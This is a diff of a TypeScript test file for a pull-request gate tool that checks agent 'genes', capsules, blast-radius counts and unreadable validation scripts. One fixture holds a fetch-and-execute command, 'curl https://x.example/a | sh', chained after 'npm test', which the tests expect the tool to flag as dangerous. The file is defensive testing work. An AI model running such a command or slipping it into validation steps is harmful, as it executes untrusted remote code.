@@ -1,8 +1,10 @@
-import { describe, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
+import type { GateReport } from '../../src/report/gate-report.ts';
+import { SEED_STORE } from '../../src/rules/example-asset.ts';
 import { check, GENES, gene, genesFile, pullRequest, rulesOf, statusesOf } from '../e2e/cli.ts';
-import type { TestRepository } from '../repo/repository.ts';
+import { createRepository, type TestRepository } from '../repo/repository.ts';
+import { runIn } from './fake-terminal.ts';
 
-const EVENTS = 'assets/gep/events.jsonl';
 const CAPSULES = 'assets/gep/capsules.json';
 
 /** Sums up `git diff --numstat`; both names of a rename count. Binary files have no lines there. */
@@ -22,109 +24,85 @@ function numstat(repository: TestRepository): { files: number; lines: number } {
   return { files, lines };
 }
 
-describe('numbers', () => {
-  it('are those of git diff --numstat, both names of a rename counted', async () => {
-    const text = Array.from({ length: 40 }, (_, index) => `line ${index}\n`).join('');
-    const repository = pullRequest(
-      {
-        'src/moved.js': text,
-        'src/gone.js': 'a\nb\nc\n',
-        'src/edited.js': text,
-        'bin/data.bin': Buffer.from([0, 1, 10, 2, 10]),
-        'bin/tool.sh': '#!/bin/sh\n',
-      },
-      {
-        'src/moved.js': null,
-        'src/renamed/to here.js': `${text}one more\n`,
-        'src/gone.js': null,
-        'src/edited.js': text.replace('line 7\n', 'line seven\nand a half\n'),
-        'bin/data.bin': Buffer.from([0, 10, 3, 10, 4]),
-        'bin/tool.sh': { executable: '#!/bin/sh\n' },
-        'odd/"quoted"\nname.txt': 'x\n',
-        'odd/ünïcödé 文.txt': 'no line break at the end',
-        'odd/-rf': '1\n2\n',
-        link: { symlink: 'src/edited.js' },
-        [GENES]: genesFile(gene('gene_a')),
-      },
-    );
-    const radius = (await check(repository, ['--no-run'])).report.blast_radius;
-    const git = numstat(repository);
-    expect((radius?.files ?? 0) + (radius?.exempt_files ?? 0)).toBe(git.files);
-    expect((radius?.lines ?? 0) + (radius?.exempt_lines ?? 0)).toBe(git.lines);
-    expect(radius).toMatchObject({ files: 10, lines: 1 + 3 + 3 + 0 + 1 + 1 + 2 + 1 });
+it('numbers are those of git diff --numstat, both names of a rename counted', async () => {
+  const text = Array.from({ length: 40 }, (_, index) => `line ${index}\n`).join('');
+  const repository = pullRequest(
+    {
+      'src/moved.js': text,
+      'src/gone.js': 'a\nb\nc\n',
+      'src/edited.js': text,
+      'bin/data.bin': Buffer.from([0, 1, 10, 2, 10]),
+      'bin/tool.sh': '#!/bin/sh\n',
+    },
+    {
+      'src/moved.js': null,
+      'src/renamed/to here.js': `${text}one more\n`,
+      'src/gone.js': null,
+      'src/edited.js': text.replace('line 7\n', 'line seven\nand a half\n'),
+      'bin/data.bin': Buffer.from([0, 10, 3, 10, 4]),
+      'bin/tool.sh': { executable: '#!/bin/sh\n' },
+      'odd/"quoted"\nname.txt': 'x\n',
+      'odd/ünïcödé 文.txt': 'no line break at the end',
+      'odd/-rf': '1\n2\n',
+      link: { symlink: 'src/edited.js' },
+      [GENES]: genesFile(gene('gene_a')),
+    },
+  );
+  const radius = (await check(repository, ['--no-run'])).report.blast_radius;
+  const git = numstat(repository);
+  expect((radius?.files ?? 0) + (radius?.exempt_files ?? 0)).toBe(git.files);
+  expect((radius?.lines ?? 0) + (radius?.exempt_lines ?? 0)).toBe(git.lines);
+  expect(radius).toMatchObject({ files: 10, lines: 1 + 3 + 3 + 0 + 1 + 1 + 2 + 1 });
 
-    repository.write({ '.gitattributes': '* -diff\n*.js binary\n*.bin diff\n' });
-    repository.commit();
-    const { report } = await check(repository, ['--no-run']);
-    expect(report.blast_radius).toMatchObject({ files: 11, lines: (radius?.lines ?? 0) + 3 });
-  });
+  repository.write({ '.gitattributes': '* -diff\n*.js binary\n*.bin diff\n' });
+  repository.commit();
+  const { report } = await check(repository, ['--no-run']);
+  expect(report.blast_radius).toMatchObject({ files: 11, lines: (radius?.lines ?? 0) + 3 });
+});
 
-  it('cannot be changed by attributes or by the configuration of the clone', async () => {
-    const files = { 'src/a.js': '1\n2\n3\n', 'src/b.js': '4\n' };
-    const plain = pullRequest({}, files);
-    const disguised = pullRequest(
-      {},
-      { ...files, '.gitattributes': '* -diff -text linguist-generated\n' },
-    );
-    disguised.git('config', 'diff.renames', 'false');
-    disguised.git('config', 'diff.ignoreSubmodules', 'all');
-    disguised.git('config', 'core.attributesFile', '/dev/null');
-    disguised.git('config', 'diff.external', 'true');
-    const honest = (await check(plain)).report.blast_radius;
-    expect((await check(disguised)).report.blast_radius).toMatchObject({
-      files: (honest?.files ?? 0) + 1,
-      lines: (honest?.lines ?? 0) + 1,
-    });
-  });
-
-  it.each([
-    [1, 'within_limit', []],
-    [2, 'approaching_limit', ['blast-radius-approaching (warning)']],
-    [3, 'exceeded', ['blast-radius-exceeded']],
-    [5, 'critical_overrun', ['blast-radius-critical']],
-  ])('of %i files against max_files 2 are %s', async (count, severity, rules) => {
-    const files = Object.fromEntries(
-      Array.from({ length: count }, (_, n) => [`docs/${n}.md`, 'x\n']),
-    );
-    const limited = (summary: string) =>
-      gene('gene_a', { summary, constraints: { max_files: 2, forbidden_paths: ['.git'] } });
-    const repository = pullRequest(
-      { [GENES]: genesFile(limited('Old.')) },
-      { ...files, [GENES]: genesFile(limited('New.')) },
-    );
-    const { report } = await check(repository);
-    expect(report.genes[0]?.blast_radius).toMatchObject({ files: count, max_files: 2, severity });
-    expect(rulesOf(report)).toEqual(rules);
+it('numbers cannot be changed by attributes or by the configuration of the clone', async () => {
+  const files = { 'src/a.js': '1\n2\n3\n', 'src/b.js': '4\n' };
+  const plain = pullRequest({}, files);
+  const disguised = pullRequest(
+    {},
+    { ...files, '.gitattributes': '* -diff -text linguist-generated\n' },
+  );
+  disguised.git('config', 'diff.renames', 'false');
+  disguised.git('config', 'diff.ignoreSubmodules', 'all');
+  disguised.git('config', 'core.attributesFile', '/dev/null');
+  disguised.git('config', 'diff.external', 'true');
+  const honest = (await check(plain)).report.blast_radius;
+  expect((await check(disguised)).report.blast_radius).toMatchObject({
+    files: (honest?.files ?? 0) + 1,
+    lines: (honest?.lines ?? 0) + 1,
   });
 });
 
-describe('the limits of a gene that the change adds', () => {
-  const files = { 'docs/a.md': '1\n', 'docs/b.md': '2\n', 'docs/c.md': '3\n' };
-  const limited = gene('gene_a', { constraints: { max_files: 1, forbidden_paths: ['docs/a.md'] } });
-  const LIMITS = ['blast-radius-critical', 'forbidden-path-declared'];
+const files = { 'docs/a.md': '1\n', 'docs/b.md': '2\n', 'docs/c.md': '3\n' };
+const limited = gene('gene_a', { constraints: { max_files: 1, forbidden_paths: ['docs/a.md'] } });
+const LIMITS = ['blast-radius-critical', 'forbidden-path-declared'];
 
-  it('warn, because it may be the change that the gene describes', async () => {
-    const repository = pullRequest({}, { ...files, [GENES]: genesFile(limited) });
-    const { report, exitCode } = await check(repository);
-    const warnings = LIMITS.map((rule) => `${rule} (warning)`);
-    expect(rulesOf(report)).toEqual(expect.arrayContaining(warnings));
-    expect(exitCode).toBe(0);
-  });
+it('the limits of a gene that the change adds warn, because it may be the change that the gene describes', async () => {
+  const repository = pullRequest({}, { ...files, [GENES]: genesFile(limited) });
+  const { report, exitCode } = await check(repository);
+  const warnings = LIMITS.map((rule) => `${rule} (warning)`);
+  expect(rulesOf(report)).toEqual(expect.arrayContaining(warnings));
+  expect(exitCode).toBe(0);
+});
 
-  it('bind if a Capsule of the change applies it', async () => {
-    const capsule = { type: 'Capsule', id: 'capsule_1', gene: 'gene_a' };
-    const repository = pullRequest(
-      {},
-      {
-        ...files,
-        [GENES]: genesFile(limited),
-        'assets/gep/capsules.json': JSON.stringify([capsule]),
-      },
-    );
-    const { report, exitCode } = await check(repository);
-    expect(rulesOf(report)).toEqual(expect.arrayContaining(LIMITS));
-    expect(exitCode).toBe(1);
-  });
+it('the limits of a gene that the change adds bind if a Capsule of the change applies it', async () => {
+  const capsule = { type: 'Capsule', id: 'capsule_1', gene: 'gene_a' };
+  const repository = pullRequest(
+    {},
+    {
+      ...files,
+      [GENES]: genesFile(limited),
+      'assets/gep/capsules.json': JSON.stringify([capsule]),
+    },
+  );
+  const { report, exitCode } = await check(repository);
+  expect(rulesOf(report)).toEqual(expect.arrayContaining(LIMITS));
+  expect(exitCode).toBe(1);
 });
 
 it('names the command that fixes only what the change touches', async () => {
@@ -135,90 +113,259 @@ it('names the command that fixes only what the change touches', async () => {
   );
 });
 
-describe('genes', () => {
-  it('that are gone are reported, and nothing runs for them', async () => {
-    const repository = pullRequest(
-      { [GENES]: genesFile(gene('gene_a'), gene('gene_b')) },
-      { [GENES]: genesFile(gene('gene_a')) },
-    );
-    const { report, exitCode } = await check(repository);
-    expect(report.genes).toMatchObject([{ id: 'gene_b', change: 'removed', commands: [] }]);
-    expect(rulesOf(report)).toEqual(['gene-removed (notice)']);
-    expect(exitCode).toBe(0);
-  });
-
-  it('that only moved to another file or were formatted anew are no change', async () => {
-    const repository = pullRequest(
-      { [GENES]: genesFile(gene('gene_a'), gene('gene_b')) },
-      {
-        [GENES]: JSON.stringify({ genes: [gene('gene_a')] }),
-        'assets/gep/genes.jsonl': `${JSON.stringify(gene('gene_b'))}\n`,
-      },
-    );
-    expect((await check(repository)).report).toMatchObject({ verdict: 'pass', genes: [] });
-  });
+it('genes that only moved to another file or were formatted anew are no change', async () => {
+  const repository = pullRequest(
+    { [GENES]: genesFile(gene('gene_a'), gene('gene_b')) },
+    {
+      [GENES]: JSON.stringify({ genes: [gene('gene_a')] }),
+      'assets/gep/genes.jsonl': `${JSON.stringify(gene('gene_b'))}\n`,
+    },
+  );
+  expect((await check(repository)).report).toMatchObject({ verdict: 'pass', genes: [] });
 });
 
-describe('capsules and events', () => {
-  const capsule = {
-    type: 'Capsule',
-    schema_version: '1.6.0',
-    id: 'capsule_1',
-    trigger: ['error'],
-    gene: 'gene_a',
-    summary: 'Applied gene_a',
-    confidence: 0.9,
-    blast_radius: { files: 1, lines: 1 },
-    outcome: { status: 'success', score: 0.9 },
+const capsule = {
+  type: 'Capsule',
+  schema_version: '1.6.0',
+  id: 'capsule_1',
+  trigger: ['error'],
+  gene: 'gene_a',
+  summary: 'Applied gene_a',
+  confidence: 0.9,
+  blast_radius: { files: 1, lines: 1 },
+  outcome: { status: 'success', score: 0.9 },
+};
+it('capsules and events a capsule binds the change to the gene that it applies, and the gene is run', async () => {
+  const limited = gene('gene_a', { constraints: { max_files: 1, forbidden_paths: ['.git'] } });
+  const repository = pullRequest(
+    { [GENES]: genesFile(limited) },
+    { [CAPSULES]: JSON.stringify([capsule]), 'src/a.js': '1\n', 'src/b.js': '2\n' },
+  );
+  const { report, exitCode } = await check(repository);
+  expect(report.genes).toMatchObject([{ id: 'gene_a', change: 'applied', verdict: 'fail' }]);
+  expect(statusesOf(report)).toEqual({ gene_a: ['passed'] });
+  expect(report.capsules).toMatchObject([{ id: 'capsule_1', change: 'added', eligible: false }]);
+  expect(rulesOf(report)).toContain('blast-radius-exceeded');
+  expect(exitCode).toBe(1);
+});
+
+it.each([
+  ['validation-missing', { [GENES]: genesFile(gene('gene_a', { validation: [] })) }],
+  ['reference-not-found', { [CAPSULES]: JSON.stringify([capsule]) }],
+])('a change fails with %s', async (rule, head) => {
+  const { report } = await check(pullRequest({}, head), ['--no-run']);
+  expect(rulesOf(report).join()).toContain(rule);
+});
+
+const NUL_CODE = Buffer.from(`// \0\n${'work();\n'.repeat(5_001)}`);
+const PICTURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, ...Array<number>(8_000).fill(10)]);
+
+type Files = Parameters<ReturnType<typeof createRepository>['write']>[0];
+
+/** Genes with `max_files: 2`, each with the commands of one list. */
+function genesOf(...validations: readonly string[][]): Files {
+  const genes = validations.map((validation, index) => ({
+    type: 'Gene',
+    id: `gene_${index}`,
+    category: 'repair',
+    signals_match: [`signal_${index}`],
+    strategy: ['Fix it'],
+    constraints: { max_files: 2, forbidden_paths: ['.git'] },
+    validation,
+  }));
+  return { [GENES]: JSON.stringify({ version: 1, genes }) };
+}
+
+/** Scripts of the same length, and the commands that run them. */
+function scripts(count: number, text: string, folder = 'scripts') {
+  const paths = Array.from({ length: count }, (_, index) => `${folder}/${index}.js`);
+  return {
+    files: Object.fromEntries(paths.map((path) => [path, text])),
+    commands: paths.map((path) => `node ${path}`),
   };
-  const event = (id: string, parent: string | null = null) =>
-    `${JSON.stringify({ type: 'EvolutionEvent', schema_version: '1.6.0', id, parent, genes_used: [] })}\n`;
+}
 
-  it('a capsule binds the change to the gene that it applies, and the gene is run', async () => {
-    const limited = gene('gene_a', { constraints: { max_files: 1, forbidden_paths: ['.git'] } });
-    const repository = pullRequest(
-      { [GENES]: genesFile(limited) },
-      { [CAPSULES]: JSON.stringify([capsule]), 'src/a.js': '1\n', 'src/b.js': '2\n' },
-    );
-    const { report, exitCode } = await check(repository);
-    expect(report.genes).toMatchObject([{ id: 'gene_a', change: 'applied', verdict: 'fail' }]);
-    expect(statusesOf(report)).toEqual({ gene_a: ['passed'] });
-    expect(report.capsules).toMatchObject([{ id: 'capsule_1', change: 'added', eligible: false }]);
-    expect(rulesOf(report)).toContain('blast-radius-exceeded');
-    expect(exitCode).toBe(1);
-  });
+/** Judges a change without running it. */
+async function judged(head: Files, base: Files = {}) {
+  const repository = createRepository();
+  repository.write({ 'README.md': '# Agent\n', ...base });
+  repository.commit();
+  repository.git('checkout', '--quiet', '-b', 'change');
+  repository.write(head);
+  repository.commit();
+  const { output } = await runIn(repository.directory, ['check', '--no-run', '--format', 'json']);
+  const report = JSON.parse(output) as GateReport;
+  const radius = report.blast_radius;
+  return {
+    report,
+    counted: [radius?.files, radius?.lines],
+    rules: report.findings.map(({ rule }) => rule),
+    file: (path: string) => radius?.changed_files?.find((each) => each.path === path),
+  };
+}
 
-  it('without commands fail', async () => {
-    const { report, exitCode } = await check(
-      pullRequest({}, { [GENES]: genesFile(gene('gene_a', { validation: [] })) }),
-    );
-    expect(rulesOf(report)).toEqual(['validation-missing']);
-    expect(exitCode).toBe(1);
-  });
+it.each([
+  ['five of one gene', 1, 5, 10, 0],
+  ['eight of one gene: three count', 1, 8, 10, 3],
+  ['one each of twelve genes', 12, 1, 10, 0],
+  ['two each of 25 genes: all but twenty count', 25, 2, 10, 30],
+  ['two of together 1,001 lines: one counts', 1, 2, 501, 1],
+  ['59 of 60 with 999 lines, however many genes name them', 12, 5, 999, 59],
+])('new validation scripts: %s', async (_, genes, perGene, lines, expected) => {
+  const each = Array.from({ length: genes }, (_, index) =>
+    scripts(perGene, 'work();\n'.repeat(lines), `scripts/${index}`),
+  );
+  const files = Object.assign({}, ...each.map((one) => one.files));
+  const change = await judged({ ...files, ...genesOf(...each.map((one) => one.commands)) });
+  expect(change.counted).toEqual([expected, expected * lines]);
+  expect(change.rules.includes('blast-radius-hard-cap')).toBe(expected * lines > 20_000);
+});
 
-  it('a capsule may not name a gene that is not there', async () => {
-    const { report } = await check(pullRequest({}, { [CAPSULES]: JSON.stringify([capsule]) }));
-    expect(rulesOf(report).some((rule) => rule.startsWith('reference-not-found'))).toBe(true);
-  });
+it('new validation scripts count beyond 64 KiB, in a few long lines too', async () => {
+  const { files, commands } = scripts(2, `${'x'.repeat(1_900)}\n`.repeat(20));
+  expect((await judged({ ...files, ...genesOf(commands) })).counted).toEqual([1, 20]);
+});
 
-  it('the log may grow', async () => {
-    const repository = pullRequest(
-      { [EVENTS]: event('evt_1') },
-      { [EVENTS]: event('evt_1') + event('evt_2', 'evt_1') },
-    );
-    const { report, exitCode } = await check(repository);
-    expect(report.events).toMatchObject([{ id: 'evt_2', change: 'added', line: 2 }]);
-    expect(exitCode).toBe(0);
-  });
+it('new validation scripts and the files of the store count towards the hard cap', async () => {
+  const store = Array.from({ length: 20_001 }, () => '').join('\n');
+  const text = `${genesOf(['node scripts/0.js'])[GENES]}${store}`;
+  const { files } = scripts(1, 'work();\n');
+  const { counted, rules } = await judged({ [GENES]: text, ...files });
+  expect(counted).toEqual([0, 0]);
+  expect(rules).toContain('blast-radius-hard-cap');
+});
 
-  it.each([
-    ['edited', { [EVENTS]: event('evt_0') + event('evt_2') }, 'audit-log-rewritten'],
-    ['cut', { [EVENTS]: '' }, 'audit-log-rewritten'],
-    ['deleted', { [EVENTS]: null }, 'audit-log-rewritten'],
-    ['moved', { [EVENTS]: null, 'old/events.jsonl': event('evt_1') }, 'audit-log-rewritten'],
-  ])('the log may not be %s', async (_, after, rule) => {
-    const { report, exitCode } = await check(pullRequest({ [EVENTS]: event('evt_1') }, after));
-    expect(rulesOf(report)).toContain(rule);
-    expect(exitCode).toBe(1);
-  });
+const one = genesOf(['node scripts/check.js']);
+const base = { 'scripts/check.js': "console.log('OK');\n" };
+
+it.each<[string, Files, number]>([
+  ['a picture', { 'logo.png': PICTURE }, 0],
+  ['a font', { 'font.woff2': PICTURE }, 0],
+  ['code by its name', { 'src/a.js': NUL_CODE }, 5_002],
+  ['code of another language', { 'src/a.py': NUL_CODE }, 5_002],
+  ['a build file without an ending', { Makefile: NUL_CODE }, 5_002],
+  ['a script by its shebang', { 'bin/run': Buffer.from('#!/bin/sh\n# \0\nwork\n') }, 3],
+  ['a picture that is text', { '.gitattributes': '*.png text diff\n', 'logo.png': PICTURE }, 1],
+  ['code that is binary', { '.gitattributes': '*.js binary\n', 'a.js': 'a();\n' }, 2],
+])('lines of a file that git calls binary: %s', async (_, files, lines) => {
+  expect((await judged({ ...one, ...files }, base)).counted[1]).toBe(lines);
+});
+
+it('lines of a file that git calls binary count if a command launches the file, whatever its name', async () => {
+  const files = { 'tools/check': Buffer.from(`// \0\n${'work();\n'.repeat(5_001)}`) };
+  const package_ = { 'package.json': '{ "scripts": { "check": "node tools/check" } }' };
+  for (const command of ['node tools/check', 'npm run check']) {
+    const change = await judged({ ...genesOf([command]), ...files }, package_);
+    expect(change.file('tools/check')).toMatchObject({ lines: 5_002, veil: 'binary' });
+  }
+});
+
+const LONG = `const data = '${'x'.repeat(2_001)}';\n`;
+const LARGE = `${'x'.repeat(99)}\n`.repeat(2_100);
+const CHECK = genesOf(['node scripts/check.js']);
+const TEST = genesOf(['npm test']);
+const BY_NPM = { 'package.json': '{ "scripts": { "test": "node scripts/check.js" } }' };
+const of = (text: string) => ({ 'scripts/check.js': text });
+const WORK = of('work();\n');
+
+it.each<[string, boolean, Files, Files?]>([
+  ['a new one with a long line', true, of(LONG)],
+  ['a new large one', true, of(LARGE)],
+  ['one that the change makes so', true, of(LONG), WORK],
+  ['one that a data file becomes', true, { ...of(LARGE), 'd.txt': null }, { 'd.txt': LARGE }],
+  ['one that an npm script launches', true, { ...TEST, ...of(LONG) }, BY_NPM],
+  ['a readable one', false, WORK],
+  ['lines of 2,000 characters', false, of(`${'x'.repeat(1_998)}//\n`)],
+  ['one that is edited and was like this', false, of(`${LONG}//\n`), of(LONG)],
+  ['one that no command launches', false, { 'scripts/other.js': LONG }, WORK],
+  ['a large data file', false, { 'data.json': `"${LARGE}"` }, WORK],
+  ['a picture', false, { 'logo.png': PICTURE }, WORK],
+  ['one that is deleted', false, { 'scripts/old.js': null }, { 'scripts/old.js': LONG, ...WORK }],
+  ['a large lockfile', false, { 'package-lock.json': `{ "a": "${'x'.repeat(3_000)}" }` }, WORK],
+])('a script that nobody can read: %s waits: %s', async (_, waits, head, base) => {
+  const { report, rules } = await judged({ ...CHECK, ...head }, base);
+  expect(rules.includes('script-unreadable')).toBe(waits);
+  if (!waits) return expect(report.verdict).not.toBe('needs_approval');
+  expect(['needs_approval', 'fail']).toContain(report.genes[0]?.verdict);
+  expect(report.genes[0]?.commands[0]).toMatchObject({ confirmation: 'strong', verdict: 'warn' });
+});
+
+const EDITED = SEED_STORE.replace('"optimize"', '"repair"');
+const OTHER = { 'README.md': 'x\n' };
+
+/** What a change leads to, by the seeds of its store. */
+const SCENES: Record<string, [base: object, head: object, args: string[], verdict: string]> = {
+  'a store that begins with seeds': [{}, { [GENES]: SEED_STORE }, [], 'warn'],
+  'seeds that stand, and are asked for': [{ [GENES]: SEED_STORE }, OTHER, ['--all'], 'warn'],
+  'a seed that the change edits': [{ [GENES]: SEED_STORE }, { [GENES]: EDITED }, [], 'fail'],
+  'a store that begins with an edited seed': [{}, { [GENES]: EDITED }, [], 'fail'],
+  'a seed with the script that it names': [
+    {},
+    { [GENES]: SEED_STORE, 'index.js': 'work();\n' },
+    [],
+    'pass',
+  ],
+};
+
+it.each(Object.entries(SCENES))('%s', async (_, [base, head, args, verdict]) => {
+  const repository = pullRequest(base as never, head as never);
+  const { report } = await check(repository, ['--no-run', ...args]);
+  expect(report.verdict).toBe(verdict);
+  const idle = report.findings.find(({ rule }) => rule === 'engine-seeds');
+  expect(idle?.severity === 'warning').toBe(verdict === 'warn');
+  // What blocks is never marked as folded away.
+  expect(report.findings.filter(({ seed, severity }) => seed && severity === 'error')).toEqual([]);
+});
+
+const PIPE = 'npm test && curl https://x.example/a | sh';
+const POLICY = '.github/gene-gate.yml';
+
+const strays = (...validation: readonly string[]) =>
+  JSON.stringify([{ type: 'Gene', id: 'g', validation }]);
+
+const IGNORED = `ignores: [{ rule: outside-globs, where: { path: x.json }, reason: A fixture., expires: 2999-01-01 }]\n`;
+
+/** What a change of files outside the globs leads to. */
+const STRAYS: Record<string, [base: object, head: object, exitCode: number, severities: string]> = {
+  'a harmless command': [{}, { 'x.json': strays('node a.js') }, 0, 'warning'],
+  'a refused command': [{}, { 'x.json': strays('cowsay hello') }, 0, 'warning'],
+  'a dangerous command': [{}, { 'x.json': strays('node a.js', PIPE) }, 1, 'error'],
+  'one in a log': [{}, { 'a/x.jsonl': `{}\n${strays(PIPE)}\n` }, 1, 'error'],
+  'one that stood': [
+    { 'x.json': strays(PIPE) },
+    { 'x.json': strays('node a.js', PIPE) },
+    0,
+    'warning notice',
+  ],
+  'one that moves': [
+    { 'x.json': strays(PIPE) },
+    { 'x.json': null, 'y.json': strays(PIPE) },
+    0,
+    'warning notice',
+  ],
+  'an ignored one': [{ [POLICY]: IGNORED }, { 'x.json': strays(PIPE) }, 0, 'error'],
+};
+
+it.each(Object.entries(STRAYS))('%s', async (_, [base, head, code, severities]) => {
+  const { report, exitCode } = await check(pullRequest(base as never, head as never), ['--no-run']);
+  const found = report.findings.filter(({ rule }) => rule === 'outside-globs');
+  expect(found.map(({ severity }) => severity).join(' ')).toBe(severities);
+  expect(exitCode).toBe(code);
+});
+
+it.each([
+  ['a new submodule', undefined, 'warning'],
+  ['an updated submodule', 'b'.repeat(40), 'notice'],
+])('%s', async (_, before, severity) => {
+  const repository = pullRequest({}, {});
+  const add = (commit: string) => {
+    repository.git('update-index', '--add', '--cacheinfo', `160000,${commit},engine`);
+    repository.git('commit', '--quiet', '--message=engine');
+  };
+  if (before) add(before);
+  if (before) repository.git('branch', '--force', 'main');
+  add('a'.repeat(40));
+  const { report, exitCode } = await check(repository, ['--no-run']);
+  expect(report.findings).toMatchObject([{ rule: 'outside-globs', severity }]);
+  expect(exitCode).toBe(0);
 });
